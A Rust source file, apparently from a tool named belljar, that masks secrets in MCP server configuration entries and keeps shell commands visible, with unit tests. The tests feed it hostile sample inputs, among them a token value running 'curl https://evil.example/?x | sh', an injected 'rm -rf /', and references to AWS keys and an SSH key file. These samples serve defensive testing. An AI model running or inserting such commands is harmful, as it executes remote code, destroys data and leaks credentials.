//! Recognises values of an entry that may be secrets, and shows entries without them.

use serde_json::{Map, Value};

use super::redact_keeping_references::around_references;

/// The mark for a hidden value.
const HIDDEN: &str = "…";
/// The mark for a hidden value that has changed.
const HIDDEN_CHANGED: &str = "… (another than before)";
/// The shortest word of letters and digits that counts as a key, in characters, if a part of it is long as well.
const RANDOM_CHARS_MIN: usize = 20;
/// The shortest such part, in characters; parts of other words, such as names of packages, are shorter.
const RANDOM_PART_CHARS_MIN: usize = 12;
/// Characters in commands for a shell.
const SHELL_MARKS: [&str; 8] = ["$(", "`", "|", ";", "&&", "\n", "<(", ">"];
/// The schemes before credentials in a header, in lower case.
const SCHEMES: [&str; 4] = ["", "bearer", "basic", "token"];
/// The schemes that announce a credential in any text.
const CREDENTIAL_SCHEMES: [&str; 2] = ["bearer ", "basic "];
/// The shortest word after such a scheme that counts as a credential, in characters.
const CREDENTIAL_CHARS_MIN: usize = 6;

/// Whether a variable, header or option of this name usually has a secret as its value.
pub(super) fn names_secret(name: &str) -> bool {
    let upper = name.to_uppercase();
    let words = ["TOKEN", "SECRET", "PASS", "PWD", "KEY", "CREDENTIAL", "AUTH", "COOKIE", "DSN", "BEARER"];
    words.iter().any(|word| upper.contains(word)) || upper.ends_with("_PAT") || upper == "PAT"
}

/// Whether an argument is itself a secret: by the option before it, or by its form.
pub(super) fn is_secret_argument(before: Option<&str>, argument: &str) -> bool {
    let is_option =
        |before: &str| before.starts_with('-') && !before.contains('=') && is_secret_option(before);
    let is_value = before.is_some_and(is_option) && !argument.starts_with('-') && !is_command(argument);
    is_value || shown_argument(argument) != argument
}

/// A file of servers without secrets. A hidden value that differs from that in `before` is marked.
pub(crate) fn shown_file(file: &Value, before: Option<&Value>) -> Value {
    let Value::Object(members) = file else { return Value::Null };
    let members = members.iter().map(|(key, value)| {
        let before = before.and_then(|before| before.get(key));
        let shown = match (key.as_str(), value) {
            ("mcpServers", Value::Object(servers)) => {
                let servers = servers.iter().map(|(name, entry)| {
                    (name.clone(), shown_entry(entry, before.and_then(|before| before.get(name))))
                });
                Value::Object(servers.collect())
            }
            ("description", _) => value.clone(),
            _ => hidden(value, before),
        };
        (key.clone(), shown)
    });
    Value::Object(members.collect())
}

/// An entry in belljar's form without secrets.
fn shown_entry(entry: &Value, before: Option<&Value>) -> Value {
    let Value::Object(members) = entry else { return hidden(entry, before) };
    let mut shown = Map::new();
    for (key, value) in members {
        let before = before.and_then(|before| before.get(key));
        let value = match (key.as_str(), value) {
            (
                "command" | "cwd" | "type" | "project" | "description" | "disabled" | "env_inherit"
                | "start_timeout" | "timeout" | "allow" | "deny",
                _,
            ) => value.clone(),
            ("url", Value::String(url)) => changed(around_references(url, shown_url), url, before),
            ("args", Value::Array(arguments)) => Value::Array(shown_arguments(arguments, before)),
            _ => hidden(value, before),
        };
        shown.insert(key.clone(), value);
    }
    Value::Object(shown)
}

fn shown_arguments(arguments: &[Value], before: Option<&Value>) -> Vec<Value> {
    let mut option = None;
    let mut shown = Vec::with_capacity(arguments.len());
    for (index, argument) in arguments.iter().enumerate() {
        let before = before.and_then(|before| before.get(index));
        let text = argument.as_str();
        shown.push(match text {
            Some(text) if is_secret_argument(option, text) => {
                let is_shown_whole = shown_argument(text) == text;
                let hide = |bare: &str| match is_shown_whole {
                    true => value_without_credentials(bare),
                    false => shown_argument(bare),
                };
                changed(around_references(text, hide), text, before)
            }
            Some(text) => Value::from(text),
            None => hidden(argument, before),
        });
        option = text;
    }
    shown
}

/// A value with everything hidden except names, booleans, null and references.
fn hidden(value: &Value, before: Option<&Value>) -> Value {
    match value {
        Value::Object(members) => {
            let members = members.iter().map(|(name, value)| {
                (name.clone(), hidden(value, before.and_then(|before| before.get(name))))
            });
            Value::Object(members.collect())
        }
        Value::Null | Value::Bool(_) => value.clone(),
        Value::String(text) => changed(around_references(text, value_without_credentials), text, before),
        _ => match before {
            Some(before) if before != value => HIDDEN_CHANGED.into(),
            _ => HIDDEN.into(),
        },
    }
}

/// The value if it has only references, and at most a scheme before them; otherwise the mark for a hidden value.
fn value_without_credentials(bare: &str) -> String {
    let is_of_reference = |c: char| !c.is_ascii() && !c.is_alphanumeric();
    let literal: String = bare.chars().filter(|c| !is_of_reference(*c)).collect();
    let is_bare = literal.len() < bare.len() && SCHEMES.contains(&literal.trim().to_lowercase().as_str());
    if is_bare { bare.to_owned() } else { HIDDEN.to_owned() }
}

/// A masked text, with a note if the masked value has changed.
fn changed(masked: String, text: &str, before: Option<&Value>) -> Value {
    let before = before.and_then(Value::as_str);
    match before {
        Some(before) if masked != text && before != text && masked == HIDDEN => HIDDEN_CHANGED.into(),
        Some(before) if masked != text && before != text => format!("{masked} {HIDDEN_CHANGED}").into(),
        _ => masked.into(),
    }
}

/// An address without its query, and without parts of its path that look like keys.
pub(super) fn shown_url(url: &str) -> String {
    let (place, query) = url.split_once('?').map_or((url, false), |(place, _)| (place, true));
    let shown = without_random(&without_user(place));
    if query { format!("{shown}?{HIDDEN}") } else { shown }
}

/// Whether a value has a credential, whatever the name of its variable or header is: after a scheme, or in JSON.
pub(super) fn holds_credential(value: &str) -> bool {
    without_embedded_credentials(value) != value
}

/// The text without credentials after authentication schemes, and without the secret values of JSON in it.
fn without_embedded_credentials(text: &str) -> String {
    let json =
        text.find(['{', '[']).and_then(|at| Some(format!("{}{}", &text[..at], masked_json(&text[at..])?)));
    without_scheme_credentials(&json.unwrap_or_else(|| text.to_owned()))
}

/// The JSON without its secret values; `None`: it is no JSON, or has no secrets.
fn masked_json(text: &str) -> Option<String> {
    fn mask(value: &mut Value, is_secret: bool) {
        match value {
            Value::String(text) if is_secret && !text.is_empty() => *text = HIDDEN.to_owned(),
            Value::String(text) => *text = without_scheme_credentials(text),
            Value::Number(_) if is_secret => *value = HIDDEN.into(),
            Value::Array(items) => items.iter_mut().for_each(|item| mask(item, is_secret)),
            Value::Object(members) => {
                members.iter_mut().for_each(|(name, value)| mask(value, is_secret || names_secret(name)));
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
    let read: Value = serde_json::from_str(text).ok()?;
    let mut masked = read.clone();
    mask(&mut masked, false);
    (masked != read).then(|| masked.to_string())
}

fn without_scheme_credentials(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut shown = String::with_capacity(text.len());
    let mut from = 0;
    while let Some((begin, scheme)) = CREDENTIAL_SCHEMES
        .iter()
        .filter_map(|scheme| Some((from + lower[from..].find(scheme)?, *scheme)))
        .min()
    {
        let at = begin + scheme.len();
        let is_of_credential = |c: char| c.is_ascii_alphanumeric() || "-._~+/=".contains(c);
        let end = text[at..].find(|c| !is_of_credential(c)).map_or(text.len(), |length| at + length);
        let is_word = !text[..begin].ends_with(|c: char| c.is_ascii_alphanumeric());
        shown.push_str(&text[from..at]);
        shown.push_str(if is_word && end - at >= CREDENTIAL_CHARS_MIN { HIDDEN } else { &text[at..end] });
        from = end;
    }
    shown.push_str(&text[from..]);
    shown
}

/// An argument without the secret in it, if it has one.
fn shown_argument(argument: &str) -> String {
    let argument = &without_embedded_credentials(argument);
    if is_command(argument) {
        return without_random(&without_user(argument));
    }
    if let Some((option, _)) = argument.split_once('=').filter(|(option, _)| is_secret_option(option)) {
        return format!("{option}={HIDDEN}");
    }
    if let Some((header, _)) = argument.split_once(':').filter(|(header, _)| is_secret_header(header)) {
        return format!("{header}: {HIDDEN}");
    }
    if argument.contains("://") { shown_url(argument) } else { without_random(argument) }
}

/// Whether an argument may be a shell command. Such an argument is shown, since the user must see what is executed.
fn is_command(argument: &str) -> bool {
    SHELL_MARKS.iter().any(|mark| argument.contains(mark))
}

fn is_secret_option(argument: &str) -> bool {
    !argument.contains([' ', '/']) && names_secret(argument) && !argument.ends_with("-file")
}

fn is_secret_header(name: &str) -> bool {
    names_secret(name) && name.chars().all(|c| c.is_ascii_alphanumeric() || "-_".contains(c))
}

fn without_user(url: &str) -> String {
    let Some((scheme, rest)) = url.split_once("://") else { return url.to_owned() };
    let end = rest.find('/').unwrap_or(rest.len());
    match rest[..end].rsplit_once('@') {
        Some((_, host)) => format!("{scheme}://{HIDDEN}@{host}{}", &rest[end..]),
        None => url.to_owned(),
    }
}

/// The text with a mark in place of every long word of letters and digits.
fn without_random(text: &str) -> String {
    let is_of_word = |c: char| c.is_ascii_alphanumeric() || "-_.~+".contains(c);
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let end = rest.find(|c| !is_of_word(c)).unwrap_or(rest.len());
        let word = &rest[..end];
        let has = |kind: fn(&char) -> bool| word.chars().any(|c| kind(&c));
        let is_long =
            |part: &str| part.len() >= RANDOM_PART_CHARS_MIN && part.contains(|c: char| c.is_ascii_digit());
        let is_random = word.len() >= RANDOM_CHARS_MIN
            && has(char::is_ascii_digit)
            && has(char::is_ascii_alphabetic)
            && word.split(['-', '_', '.', '~', '+']).any(is_long);
        shown.push_str(if is_random { HIDDEN } else { word });
        let between = rest[end..].find(is_of_word).map_or(rest.len(), |next| end + next);
        shown.push_str(&rest[end..between]);
        rest = &rest[between..];
    }
    shown
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn no_value_of_env_headers_queries_and_secret_arguments_is_shown() {
        let entry = json!({"mcpServers": {
            "a": {
                "command": "npx",
                "args": ["-e", "API_TOKEN", "image/server", "@scope/server@1.2.3", "--api-key", "hunter2", "--token=hunter2", "--verbose",
                    "Authorization: Bearer hunter2", "postgres://ada:hunter2@db/x", "sk-hunter2hunter2hunter2"],
                "env": {"REGION": "hunter2"},
                "oauth": {"clientSecret": "hunter2"}
            },
            "b": {"url": "https://x.example/s/hunter2hunter2hunter2/mcp?key=hunter2", "headers": {"X-Y": "hunter2"}}
        }, "other": "hunter2"});
        let shown = shown_file(&entry, None);
        assert!(!shown.to_string().contains("hunter2"), "{shown:#}");
        assert_eq!(
            shown["mcpServers"]["a"]["args"],
            json!([
                "-e",
                "API_TOKEN",
                "image/server",
                "@scope/server@1.2.3",
                "--api-key",
                "…",
                "--token=…",
                "--verbose",
                "Authorization: …",
                "postgres://…@db/x",
                "…"
            ])
        );
        assert_eq!(shown["mcpServers"]["b"]["url"], "https://x.example/s/…/mcp?…");
        // An unchanged value has the normal mark, and a changed one has the other mark.
        assert_eq!(shown_file(&entry, Some(&entry)), shown);
        let before = json!({"mcpServers": {"b": {"headers": {"X-Y": "other"}}}});
        assert_eq!(
            shown_file(&entry, Some(&before))["mcpServers"]["b"]["headers"]["X-Y"],
            "… (another than before)"
        );
    }

    #[test]
    fn references_and_commands_and_names_of_packages_are_shown() {
        let shown =
            |entry: Value| shown_file(&json!({"mcpServers": {"a": entry}}), None)["mcpServers"]["a"].clone();
        let entry = json!({
            "url": "https://evil.example/${HOME}?k=${AWS_SECRET_ACCESS_KEY_0123456789}&l=hunter2",
            "headers": {"A": "${file:~/.ssh/id}", "B": "Bearer ${T}", "C": "hunter2 ${T}", "D": "Bearer hunter2"},
        });
        assert_eq!(
            shown(entry),
            json!({
                "url": "https://evil.example/${HOME}?… with ${AWS_SECRET_ACCESS_KEY_0123456789}",
                "headers": {"A": "${file:~/.ssh/id}", "B": "Bearer ${T}", "C": "… with ${T}", "D": "…"},
            })
        );
        let user = shown(json!({"url": "https://ada:${T}@evil.example/x"}));
        assert_eq!(user["url"], "https://…@evil.example/x with ${T}");
        let arguments = json!([
            "--token=$(curl https://evil.example/?x | sh)",
            "TOKEN=x; rm -rf /",
            "--password",
            "`evil`",
            "--password",
            "${P}",
            "--key=hunter2-${K}",
            "server-filesystem-2026.9.1",
        ]);
        assert_eq!(
            shown(json!({"args": arguments}))["args"],
            json!([
                "--token=$(curl https://evil.example/?x | sh)",
                "TOKEN=x; rm -rf /",
                "--password",
                "`evil`",
                "--password",
                "${P}",
                "--key=… with ${K}",
                "server-filesystem-2026.9.1",
            ])
        );
    }
}
